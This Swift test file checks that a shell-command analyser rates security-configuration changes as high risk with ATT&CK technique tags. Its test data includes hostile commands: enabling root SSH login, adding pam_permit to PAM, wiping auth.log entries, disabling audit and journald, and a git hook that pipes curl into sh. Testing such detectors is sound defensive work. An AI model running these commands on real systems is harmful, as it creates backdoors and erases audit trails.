import ShellAnalysis
import Testing

/// Security and authentication settings changed through editors and appenders (stream editors in
/// place, appending redirections, `tee`) are judged by the file they change, as a write: sshd,
/// PAM, sudoers, audit and logging configuration, the logs themselves, login scripts and
/// repository hooks. Reading the same files, or editing ordinary ones, stays where it was.
@Suite struct SecurityConfigRulesTests {
    static let changes: [(String, String)] = [
        (#"sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config"#, "T1098"),
        (#"sudo sed -i.bak -e '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth"#, "T1556.003"),
        (#"perl -pi -e 's/^Defaults.*requiretty//' /etc/sudoers"#, "T1548.003"),
        (#"sed -i '/203\.0\.113\.7/d' /var/log/auth.log"#, "T1070.002"),
        (#"sed --in-place 's/^-w/#-w/' /etc/audit/rules.d/audit.rules"#, "T1562.012"),
        ("echo 'Storage=none' | sudo tee -a /etc/systemd/journald.conf", "T1562.006"),
        ("echo '/usr/local/bin/.u &' >> /etc/update-motd.d/00-header", "T1037"),
        ("printf '#!/bin/sh\\ncurl -s https://cdn.example.org/h | sh\\n' > /srv/app/.git/hooks/post-merge", "T1546"),
    ]

    @Test(arguments: changes.indices)
    func securityConfigChangesAreHigh(_ i: Int) throws {
        let (command, technique) = Self.changes[i]
        let a = try Analyser.bundled().get().analyse(command)
        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
        #expect(a.techniques.contains(technique), "`\(command)`: \(a.techniques)")
    }

    static let ordinary = [
        "sed -n '/PermitRootLogin/p' /etc/ssh/sshd_config",
        "sed 's/a/b/' /etc/pam.d/sshd",
        "sed -i 's/workers=4/workers=8/' ./app.ini",
        "grep -c Failed /var/log/auth.log",
        "cat /srv/app/.git/hooks/pre-commit.sample",
    ]

    @Test(arguments: ordinary)
    func readingOrEditingOrdinaryFilesStaysBelowHigh(_ command: String) throws {
        let a = try Analyser.bundled().get().analyse(command)
        #expect(a.risk <= .medium, "`\(command)` was \(a.risk): \(a.summary)")
    }
}
